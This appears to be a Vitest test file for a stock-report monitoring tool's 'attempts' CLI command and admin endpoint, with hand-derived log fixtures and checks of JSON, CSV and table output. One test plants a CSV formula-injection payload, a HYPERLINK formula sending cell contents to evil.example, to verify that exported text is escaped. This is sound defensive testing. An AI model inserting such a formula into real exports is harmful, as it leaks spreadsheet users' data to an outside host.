/** `craveny-ops attempts` and GET /admin/report-updates/attempts: every attempt of a stock, by hand from the log. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderAttempts } from '../src/commands/attempts.js';
import { loadConfig } from '../src/config.js';
import { buildApp } from '../src/server/app.js';
import { openStore, type Store } from '../src/store/store.js';
import { displayWidth } from '../src/render/table.js';
import { parseWindow } from '../src/market/window.js';
import type { FastifyInstance } from 'fastify';
import fs from 'node:fs';
import path from 'node:path';
import { cli, fixture, tempDir, tempStore } from './helpers.js';

const NOW = Date.parse('2025-11-04T12:30:00+09:00');

/*
 * fixtures/attempts/drill-down.log, by hand. Log end 12:00:00.000 (the scheduler's last line).
 *
 *   #  start (KST)        stock   reason            outcome record                      calls (printed cost)
 *   0  11-03 23:59:59.000 005930  new_prediction    success 11-04 00:00:09 (10 s)        1 ($0.001 at 00:00:01)
 *   1  08:50:00.000       005930  new_prediction    success 08:50:12.500 (12.5 s)        1 ($0.002)
 *   2  09:05:00.000       000660  forced (clock: market_open)  success 09:05:20 (20 s)   1 ($0.001)
 *   3  09:40:00.000       005930  ttl_expired       generator failed 09:40:30, completion
 *                                                   logged at the same instant: silent    1 ($0.001)
 *   4  10:30:00.000       005930  price_move        update failed 10:30:05 (5 s)          1 ($0.001)
 *   5  11:00:00.000       000660  direction_change  none; log end 60 min later: abandoned 1 ($0.003), up to #7
 *   6  11:30:00.000       005930  ttl_expired       success 11:30:40 (40 s)               1 ($0.001)
 *   7  11:58:00.000       000660  ttl_expired       none; log end 2 min later: in flight  1 ($0.001)
 */
const row = (fields: Record<string, unknown>) => ({
  abandoned: false,
  silent_failure: false,
  completed_ts: null,
  duration_s: null,
  llm_calls: 1,
  cost_usd: 0.001,
  error: null,
  ...fields,
});
const A1 = row({
  ts: '2025-11-04T08:50:00+09:00', stock_code: '005930', reason: 'new_prediction', reason_text: '새 예측 추가 (기존: 5, 현재: 6, 시장: pre_market)',
  phase: 'pre_market', outcome: 'succeeded', completed_ts: '2025-11-04T08:50:12.500+09:00', duration_s: 12.5, cost_usd: 0.002,
});
const A2 = row({
  ts: '2025-11-04T09:05:00+09:00', stock_code: '000660', reason: 'forced', reason_text: '강제 업데이트 또는 리포트 없음',
  phase: 'market_open', outcome: 'succeeded', completed_ts: '2025-11-04T09:05:20+09:00', duration_s: 20,
});
const A3 = row({
  ts: '2025-11-04T09:40:00+09:00', stock_code: '005930', reason: 'ttl_expired', reason_text: '시장 단계별 TTL 초과 (trading: 2.3h > 2h)',
  phase: 'trading', outcome: 'failed', silent_failure: true, duration_s: 30, error: 'Request timed out.',
});
const A4 = row({
  ts: '2025-11-04T10:30:00+09:00', stock_code: '005930', reason: 'price_move', reason_text: '주가 급변 (3.4%, 임계값: 3.0%, 시장: trading)',
  phase: 'trading', outcome: 'failed', duration_s: 5, error: 'server closed the connection unexpectedly',
});
const A5 = row({
  ts: '2025-11-04T11:00:00+09:00', stock_code: '000660', reason: 'direction_change',
  reason_text: '예측 방향 급변 (상승 비율: 40.0% → 60.0%, 변화: 20.0%, 임계값: 15.0%, 시장: trading)',
  phase: 'trading', outcome: 'failed', abandoned: true, cost_usd: 0.003,
});
const A6 = row({
  ts: '2025-11-04T11:30:00+09:00', stock_code: '005930', reason: 'ttl_expired', reason_text: '시장 단계별 TTL 초과 (trading: 2.0h > 2h)',
  phase: 'trading', outcome: 'succeeded', completed_ts: '2025-11-04T11:30:40+09:00', duration_s: 40,
});
const A7 = row({
  ts: '2025-11-04T11:58:00+09:00', stock_code: '000660', reason: 'ttl_expired', reason_text: '시장 단계별 TTL 초과 (trading: 2.9h > 2h)',
  phase: 'trading', outcome: 'in_flight',
});
const A0 = row({
  ts: '2025-11-03T23:59:59+09:00', stock_code: '005930', reason: 'new_prediction', reason_text: '새 예측 추가 (기존: 4, 현재: 5, 시장: after_hours)',
  phase: 'after_hours', outcome: 'succeeded', completed_ts: '2025-11-04T00:00:09+09:00', duration_s: 10,
});
const HEAD = { from: '2025-11-04T00:00:00+09:00', until: '2025-11-05T00:00:00+09:00', log_end: '2025-11-04T12:00:00+09:00' };

let db: string;
beforeAll(async () => {
  db = tempStore();
  expect((await cli(['--db', db, 'ingest', fixture('attempts', 'drill-down.log')])).code).toBe(0);
});
const attempts = (...args: string[]) => cli(['--db', db, 'attempts', ...args], { now: NOW });

describe('attempts --json', () => {
  it('lists every attempt of the day, oldest first, with the numbers derived by hand', async () => {
    const run = await attempts('--json');
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.json()).toEqual({ ...HEAD, attempts: [A1, A2, A3, A4, A5, A6, A7] });
  });

  it('gives an attempt only the calls of its own span: a call after midnight stays with the attempt before it', async () => {
    const run = await attempts('--json', '--days', '2');
    expect(run.json().attempts).toEqual([A0, A1, A2, A3, A4, A5, A6, A7]);
  });

  it('filters by stock, reason and outcome', async () => {
    expect((await attempts('--json', '--stock', '005930')).json().attempts).toEqual([A1, A3, A4, A6]);
    expect((await attempts('--json', '--stock', '005930', '--reason', 'ttl_expired')).json().attempts).toEqual([A3, A6]);
    expect((await attempts('--json', '--outcome', 'failed')).json().attempts).toEqual([A3, A4, A5]);
    expect((await attempts('--json', '--outcome', 'abandoned')).json().attempts).toEqual([A5]);
    expect((await attempts('--json', '--outcome', 'in_flight', '--stock', '000660')).json().attempts).toEqual([A7]);
  });

  it('takes a window by the hour', async () => {
    const run = await attempts('--json', '--stock', '005930', '--since', '2025-11-04T09:00', '--until', '2025-11-04T11:30');
    expect(run.json()).toEqual({ ...HEAD, from: '2025-11-04T09:00:00+09:00', until: '2025-11-04T11:30:00+09:00', attempts: [A3, A4] });
  });

  it('prices the calls at --price-per-call when given', async () => {
    const run = await attempts('--json', '--stock', '000660', '--price-per-call', '0.01');
    expect(run.json().attempts.map((a: { cost_usd: number }) => a.cost_usd)).toEqual([0.01, 0.01, 0.01]);
  });

  it('answers a well-formed code the store never saw with an empty list and a warning', async () => {
    const run = await attempts('--json', '--stock', '0001A0');
    expect(run.code).toBe(0);
    expect(run.json()).toEqual({ ...HEAD, attempts: [] });
    expect(run.stderr).toBe('warning: the store has never seen stock 0001A0: check the code\n');
  });

  it('does not warn about a known stock with no attempts in the window', async () => {
    const run = await attempts('--json', '--stock', '005930', '--until', '2025-11-02');
    expect(run.json().attempts).toEqual([]);
    expect(run.stderr).toBe('');
  });

  it.each([
    [['--stock', '5930'], /--stock must be a KRX short code/],
    [['--stock', '00593a'], /--stock must be a KRX short code/],
    [['--stock', '0059300'], /--stock must be a KRX short code/],
    [['--reason', 'ttl'], /--reason must be one of new_prediction, ttl_expired/],
    [['--outcome', 'ok'], /--outcome must be one of succeeded, failed, in_flight, abandoned/],
    [['--json', '--format', 'csv'], /--json conflicts with --format csv/],
  ])('refuses %j with one line and exit 2', async (args, message) => {
    const run = await attempts(...args);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(run.stderr).toMatch(message);
  });
});

describe('attempts as CSV and as a table', () => {
  it('writes one CSV row per attempt with the JSON fields as columns', async () => {
    const run = await attempts('--format', 'csv', '--stock', '000660');
    const lines = run.stdout.split('\r\n');
    expect(lines[0]).toBe('ts,stock_code,reason,reason_text,phase,outcome,abandoned,silent_failure,completed_ts,duration_s,llm_calls,cost_usd,error');
    expect(lines[1]).toBe('2025-11-04T09:05:00+09:00,000660,forced,강제 업데이트 또는 리포트 없음,market_open,succeeded,false,false,2025-11-04T09:05:20+09:00,20,1,0.001,');
    expect(lines[2]).toBe(
      '2025-11-04T11:00:00+09:00,000660,direction_change,"예측 방향 급변 (상승 비율: 40.0% → 60.0%, 변화: 20.0%, 임계값: 15.0%, 시장: trading)",trading,failed,true,false,,,1,0.003,',
    );
    expect(lines).toHaveLength(5); // header, 3 rows, and the empty string after the last CRLF
  });

  it('writes a log text a spreadsheet would run as a formula with a leading apostrophe, and numbers as they are', async () => {
    // The reason text comes from the log: an attacker's line can start it with = (or +, -, @, a tab).
    const hostile = tempStore();
    const log = tempDir('craveny-csv-');
    const file = path.join(log, 'backend.log');
    const line = (time: string, text: string) => `2025-11-04 ${time},000 - backend.services.stock_analysis_service - INFO - ${text}`;
    fs.writeFileSync(
      file,
      [
        line('10:00:00', '종목 005930 업데이트 시작: =HYPERLINK("http://evil.example/?"&A1,"click")'),
        line('10:00:20', '종목 005930의 분석 요약 업데이트 완료'),
        line('10:30:00', '종목 000660 업데이트 시작: @SUM(1+1)'),
        line('10:30:20', '종목 000660의 분석 요약 업데이트 완료'),
      ].join('\n') + '\n',
    );
    expect((await cli(['--db', hostile, 'ingest', file])).code).toBe(0);
    const run = await cli(['--db', hostile, 'attempts', '--format', 'csv', '--days', '1', '--until', '2025-11-04'], { now: NOW });
    expect(run.code, run.stderr).toBe(0);
    const rows = run.stdout.split('\r\n').slice(1, 3);
    expect(rows[0]).toContain(',other,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",');
    expect(rows[1]).toContain(",other,'@SUM(1+1),");
    // Durations and calls are numbers, not text: written as they are.
    expect(rows[0]).toMatch(/,20,0,0,$/);
  });

  it('fits the table into 80 columns in a pipe and keeps every detail on one line', async () => {
    const run = await attempts();
    const lines = run.stdout.trimEnd().split('\n');
    const table = lines.filter((l) => /^[┌│├└]/.test(l));
    expect(table.length).toBeGreaterThan(0);
    for (const line of table) expect(displayWidth(line)).toBeLessThanOrEqual(80);
    expect(run.stdout).toContain('  5. trading · 예측 방향 급변 (상승 비율: 40.0% → 60.0%, 변화: 20.0%, 임계값: 15.0%, 시장: trading)\n');
    expect(run.stdout).toContain('silent fail');
    expect(run.stdout).toContain('abandoned');
    expect(run.stdout).toContain('error: server closed the connection unexpectedly');
  });

  it('shows every column on a wide terminal and wraps details at a narrow one', async () => {
    const doc = (await attempts('--json')).json();
    const options = { window: parseWindow({ until: '2025-11-04' }, NOW, 1), format: 'table' as const, filters: { stock: null, reason: null, outcome: null } };
    const wide = renderAttempts(doc, options, false, 200);
    expect(wide).toMatch(/│ completed │ dur s │ calls │/);
    const narrow = renderAttempts(doc, options, false, 50);
    expect(narrow).not.toMatch(/│ completed │/);
    const details = narrow.split('\n').filter((l) => !/^[┌│├└]/.test(l));
    for (const line of details) expect(displayWidth(line), line).toBeLessThanOrEqual(50);
    // #5's text continues on an indented line.
    expect(narrow).toContain('  5. trading · 예측 방향 급변 (상승 비율: 40.0% →\n       60.0%, 변화: 20.0%, 임계값: 15.0%, 시장:\n       trading)\n');
  });
});

describe('GET /admin/report-updates/attempts', () => {
  let store: Store;
  let app: FastifyInstance;
  beforeAll(async () => {
    store = await openStore(db);
    app = await buildApp({ db: store.db, config: await loadConfig(undefined, {}), now: () => NOW });
  });
  afterAll(async () => {
    await app?.close();
    await store?.close();
  });

  it('returns the document attempts --json prints for the same query', async () => {
    const response = await app.inject({ url: '/admin/report-updates/attempts?stock=005930&since=2025-11-04T09:00&until=2025-11-04T11:30' });
    expect(response.statusCode).toBe(200);
    const cliDoc = (await attempts('--json', '--stock', '005930', '--since', '2025-11-04T09:00', '--until', '2025-11-04T11:30')).json();
    expect(response.json()).toEqual(cliDoc);
    expect((await app.inject({ url: '/admin/report-updates/attempts?outcome=abandoned' })).json().attempts).toEqual([A5]);
  });

  it.each([
    ['stock=5930', /stock must be a KRX short code/],
    ['reason=ttl', /^reason must be one of new_prediction, ttl_expired, price_move, direction_change, forced, other, got 'ttl'$/],
    ['since=2h&days=2', /since and --days exclude each other|exclude each other/],
    ['since=2025-11-04T10:00&until=2025-11-04T09:00', /before it starts/],
  ])('answers ?%s with 400 and a JSON error', async (query, message) => {
    const response = await app.inject({ url: `/admin/report-updates/attempts?${query}` });
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toMatch(message);
  });

  it('gives the stats endpoint since/until beside its days bounds', async () => {
    const response = await app.inject({ url: '/admin/report-updates/stats?since=2025-11-04T09:00&until=2025-11-04T11:30' });
    expect(response.statusCode).toBe(200);
    // #2 3 4 5 of the table above.
    expect(response.json()).toMatchObject({ from: '2025-11-04T09:00:00+09:00', until: '2025-11-04T11:30:00+09:00', total_updates: 4, period_days: 0.1042 });
    expect((await app.inject({ url: '/admin/report-updates/stats?days=31' })).statusCode).toBe(400);
    expect((await app.inject({ url: '/admin/report-updates/stats?since=90m' })).json()).toMatchObject({ from: '2025-11-04T11:00:00+09:00', until: '2025-11-04T12:30:00+09:00' });
  });
});
